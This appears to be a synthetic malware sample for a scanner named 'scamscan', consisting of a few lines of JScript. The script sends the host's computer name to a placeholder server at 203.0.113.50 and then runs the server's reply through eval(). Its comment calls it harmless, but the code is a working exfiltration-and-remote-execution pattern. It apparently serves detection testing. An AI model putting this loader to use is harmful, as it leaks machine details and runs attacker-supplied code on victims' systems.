// scamscan synthetic sample - harmless text, not malware
var req = new ActiveXObject("MSXML2.XMLHTTP");
req.open("POST", "http://203.0.113.50/report.php", false);
req.send("id=" + WScript.CreateObject("WScript.Network").ComputerName);
if (req.status == 200) { eval(req.responseText); }
